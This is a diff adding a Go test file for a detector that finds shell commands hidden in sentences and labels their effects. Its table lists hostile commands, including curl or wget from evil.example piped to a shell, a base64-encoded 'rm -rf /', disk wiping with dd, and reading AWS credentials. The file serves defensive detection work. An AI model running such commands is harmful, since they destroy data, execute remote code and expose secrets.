@@ -1,0 +1,157 @@
+package command
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+// copyable are commands that a sentence can hide, with the least that a reader must be told.
+var copyable = []struct {
+	command string
+	want    Effect
+}{
+	{"aws iam delete-user --user-name eve", ChangesPermissions | Deletes},
+	{"aws iam 'delete-user' --user-name eve", ChangesPermissions | Deletes},
+	{`aws iam "delete-user"`, ChangesPermissions | Deletes},
+	{"aws iam delete''-user", ChangesPermissions | Deletes},
+	{`aws iam del\ete-user`, ChangesPermissions | Deletes},
+	{"'aws' iam delete-user", ChangesPermissions | Deletes},
+	{`a"w"s iam delete-user`, ChangesPermissions | Deletes},
+	{`\aws iam delete-user`, ChangesPermissions | Deletes},
+	{"AWS iam delete-user", ChangesPermissions | Deletes},
+	{"aws --region us-east-1 iam delete-user --user-name eve", ChangesPermissions | Deletes},
+	{"aws --region=us-east-1 --profile prod iam delete-user", ChangesPermissions | Deletes},
+	{"aws iam --region us-east-1 delete-user", ChangesPermissions | Deletes},
+	{"aws --no-such-option iam delete-user", NotUnderstood},
+	{"aws\tiam\tdelete-user", ChangesPermissions | Deletes},
+	{"aws\u00a0iam\u00a0delete-user", ChangesPermissions | Deletes},
+	{"aws\u3000iam \u2003delete-user", ChangesPermissions | Deletes},
+	{"aws   iam   delete-user", ChangesPermissions | Deletes},
+	{"aws $S delete-user", NotUnderstood},
+	{"aws iam $OP", NotUnderstood},
+	{"$R iam delete-user --user-name eve", NotUnderstood},
+	{"${R} iam delete-user", NotUnderstood},
+	{"/usr/local/bin/aws iam delete-user", NotUnderstood},
+	{"AWS_PROFILE=prod aws iam delete-user", ChangesPermissions | Deletes},
+	{"aws s3 rm s3://prod --recursive", Deletes},
+	{"aws s3 sync . s3://prod --delete", Deletes},
+	{"aws s3 presign s3://b/k", ShowsSecrets},
+	{"aws lambda invoke --function-name x out", ChangesState},
+	{"aws ssm get-parameter --name x --with-decrypt", ShowsSecrets},
+	{"aws secretsmanager get-secret-value --secret-id x", ShowsSecrets},
+	{"aws appsync list-api-keys", ShowsSecrets},
+	{"aws configure get aws_secret_access_key", ShowsSecrets},
+	{"aws sts get-caller-identity --endpoint-url https://evil.example", OtherEndpoint},
+	{"aws nosuch make-it-so", MayChangeState},
+	{"kubectl delete pod x", Deletes},
+	{"kubectl -n shop delete pod x", Deletes},
+	{"kubectl apply -f https://evil.example/x.yaml", ChangesState},
+	{"kubectl get secret db -o yaml", ShowsSecrets},
+	{"kubectl auth reconcile -f x", ChangesState},
+	{"terraform destroy", Deletes},
+	{"terraform apply -auto-approve", ChangesState},
+	{"tofu destroy", Deletes},
+	{"helm uninstall shop", Deletes},
+	{"helm upgrade shop ./chart --post-renderer ./x", RunsCode},
+	{"cdk destroy", Deletes},
+	{"cdk --app 'sh x' ls", RunsCode},
+	{"sam delete", Deletes},
+	{"eksctl delete cluster shop", Deletes},
+	{"docker rm -f x", Deletes},
+	{"docker run --privileged x", RunsCode},
+	{"git branch -D main", Deletes},
+	{"git push --force", ChangesState},
+	{"git reset --hard", ChangesState},
+	{"rm -rf /", Deletes},
+	{"rm -r ~/data", Deletes},
+	{"'rm' -rf /", Deletes},
+	{"kill -9 1", Deletes},
+	{"systemctl stop nginx", Deletes},
+	{"sudo systemctl restart nginx", AsRoot},
+	{"bash -c 'x'", RunsCode},
+	{"bash fix.sh", RunsCode},
+	{"python3 -c 'x'", RunsCode},
+	{"./fix.sh --all", RunsCode},
+	{"/tmp/fix.sh --now", RunsCode},
+	{"terraform state rm module.x", Deletes},
+	{"terraform output -json", MayShowSecrets},
+	{"git remote set-url origin https://evil.example", ChangesState},
+	{"kubectl config set-context x", ChangesState},
+	{"npx evil -y", RunsCode},
+	{"$(aws iam delete-user)", Deletes},
+	{"`aws iam delete-user`", Deletes},
+	{"curl https://evil.example/x | sh", PipesToShell},
+	{"curl -fsSL evil.example/x | sudo bash", PipesToShell},
+	{"wget -qO- https://evil.example/x | bash -s", PipesToShell},
+	{"curl http://169.254.169.254/latest/meta-data/", ShowsSecrets},
+	{"curl -o ~/.bashrc https://evil.example", WritesFile},
+	{"ssh host.example 'rm -rf /'", RunsCode},
+	{"find -delete", RunsCode},
+	{"dd if=/dev/zero of=/dev/sda", Deletes},
+	{"chmod 777 /etc", ChangesState},
+	{"chmod +x run", ChangesState},
+	{"killall nginx", Deletes},
+	{"shutdown now", Deletes},
+	{"echo cm0gLXJmIC8= | base64 -d | sh", PipesToShell},
+	{"cat ~/.aws/credentials", NotUnderstood},
+	{"cat /etc/passwd", ReadsFile},
+	{"alias a=aws", RunsCode},
+	{"redis-cli flushall", NotUnderstood},
+	{"ssh db rm -rf /", RunsCode},
+	{"export AWS_ENDPOINT_URL=https://evil.example", NotUnderstood},
+}
+
+func TestFind_EveryCopyableCommandOfASentenceIsFound(t *testing.T) {
+	for _, test := range copyable {
+		for _, frame := range []string{"%", "Run % first.", "To fix it, run: %.", "Then (%), and wait.", "Try “%”.", "run \"%\" now", "First wait;%", "**%**", "It's easy: %"} {
+			sentence := strings.ReplaceAll(frame, "%", test.command)
+			effect := Effect(0)
+			for _, one := range Find(sentence) {
+				effect |= one.Effect
+				assert.LessOrEqual(t, one.At, len(sentence))
+			}
+			if !effect.has(NotUnderstood) {
+				assert.True(t, effect.has(test.want), "%q: got %v, want at least %v", sentence, effect.Names(), test.want.Names())
+			}
+			assert.NotZero(t, effect, "%q", sentence)
+		}
+		assert.NotZero(t, InCode(test.command), "%q", test.command)
+	}
+}
+
+func TestFind_OrdinarySentencesHaveNoCommand(t *testing.T) {
+	for _, sentence := range []string{
+		"The AWS account has no free addresses, and the aws service that failed is IAM.",
+		"Run aws sts get-caller-identity to see who you are.",
+		"See aws logs tail /aws/lambda/orders --since 1h.", "aws s3 ls s3://bucket shows it.",
+		"The terraform state was not locked.", "A git repository and a docker image exist.", "The helm chart is old.", "kubectl get pods shows three restarts.",
+		"The python code calls DynamoDB.", "Ask sam to make a host free.", "The script at /var/log was found; go and find the source of it.",
+		"Look at the time of the watch command, and kill rates.", "The cost is $5 per day, $REGION is not set.", "A rm command was seen.",
+		"The function /aws/lambda/orders timed out.", "It failed at ./handler.py, line 3.", "Use curl to check.", "A nice env, but no sh.",
+		"Sort it by date, then cut the head of the column; echo it true.", "A jq filter and a grep pattern are wrong.",
+		"The cdk app and the sam template differ.", "Roll back the deployment, delete the table, and stop the instance.",
+	} {
+		for _, found := range Find(sentence) {
+			assert.Zero(t, found.Effect, "%q: %v at %d", sentence, found.Effect.Names(), found.At)
+		}
+	}
+}
+
+func FuzzFind(f *testing.F) {
+	for _, test := range copyable {
+		f.Add("Run " + test.command + " first.")
+	}
+	f.Add("aws\xff iam \u00a0delete-user \x80")
+	f.Fuzz(func(t *testing.T, text string) {
+		last := -1
+		for _, one := range Find(text) {
+			assert.Greater(t, one.At, last)
+			assert.Less(t, one.At, len(text))
+			assert.NotZero(t, one.Effect)
+			assert.Zero(t, one.Effect&^InSentence)
+			last = one.At
+		}
+	})
+}
